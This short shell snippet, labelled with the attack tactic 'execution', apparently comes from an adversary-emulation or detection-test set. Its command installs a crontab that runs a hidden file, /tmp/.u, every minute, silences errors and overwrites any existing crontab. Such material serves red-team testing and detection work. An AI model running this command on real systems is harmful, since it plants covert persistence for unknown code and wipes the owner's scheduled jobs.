# tactic: execution
# install a crontab from a file
echo "* * * * * /tmp/.u" > /tmp/.c; crontab /tmp/.c 2>/dev/null; true
